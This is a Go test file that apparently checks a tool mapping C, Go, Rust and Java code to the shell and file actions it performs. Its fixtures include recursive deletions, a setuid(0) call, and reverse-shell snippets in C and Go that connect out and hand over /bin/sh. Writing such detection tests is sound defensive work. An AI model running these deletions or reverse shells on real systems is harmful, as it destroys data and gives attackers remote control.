package lang

import "testing"

func TestC(t *testing.T) {
	runExamples(t, "c", []example{
		{"system", "#include <stdlib.h>\nint main(void){ return system(\"rm -rf a\"); }", []string{"shell| rm -rf a"}},
		{"exec", `int main(){ setuid(0); execl("/bin/rm", "rm", "-rf", d, NULL); }`, []string{"/bin/rm -rf <d> "}},
		{"files", `FILE *f = fopen("out", "w"); unlink("x"); std::filesystem::remove_all("y");`, []string{"tee out", "rm x", "rm -rf y"}},
		{"reverse shell", `int main(){ int s = socket(2,1,0); connect(s, &a, 16); dup2(s, 0); execl("/bin/sh", "sh", NULL); }`, []string{"listen: shell over a connection <a>", "/bin/sh "}},
		{"data", "// system(\"x\")\nputs(\"system(\\\"rm\\\")\"); printf(\"%d\", system_of(x));", nil},
	})
}

func TestGo(t *testing.T) {
	runExamples(t, "go", []example{
		{"commands", `func main() { exec.Command("sh", "-c", "id").Run(); syscall.Exec("/bin/sh", nil, nil) }`, []string{"sh -c id", "/bin/sh"}},
		{"files", `home, _ := os.UserHomeDir(); if err := os.RemoveAll(filepath.Join(home, "x")); err != nil { return }`, []string{"rm -rf <home>/x"}},
		{"reverse shell", `func main(){c,_:=net.Dial("tcp","192.0.2.1:9");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Run()}`, []string{"listen: shell over a connection tcp", "/bin/sh"}},
		{"data", "package main\n\nimport (\n\t\"fmt\"\n\t\"os\"\n)\n\nfunc main() { fmt.Println(`os.RemoveAll(\"x\")`, os.Args) }", nil},
	})
}

func TestRust(t *testing.T) {
	runExamples(t, "rust", []example{
		{"commands", `fn main() { Command::new("rm").arg("-rf").args(["a", "b"]).status().unwrap(); }`, []string{"rm -rf a b"}},
		{"files", `use std::fs; fn main() { std::fs::remove_dir_all("x").unwrap(); fs::write("y", "z"); }`, []string{"rm -rf x", "tee y"}},
		{"not started", `let c = Command::new("rm").arg("x"); println!("{:?}", c);`, nil},
	})
}

func TestJava(t *testing.T) {
	runExamples(t, "java", []example{
		{"commands", `class X { void a() { Runtime.getRuntime().exec("rm -rf a"); new ProcessBuilder("rm", "b").start(); } }`, []string{"shell| rm -rf a", "rm b"}},
		{"groovy", `"rm -rf a".execute(); ["rm", "b"].execute(); new File("c").deleteDir()`, []string{"shell| rm -rf a", "rm b", "rm -r c"}},
		{"data", `System.out.println("exec(\"rm\")"); // exec("x")`, nil},
	})
}
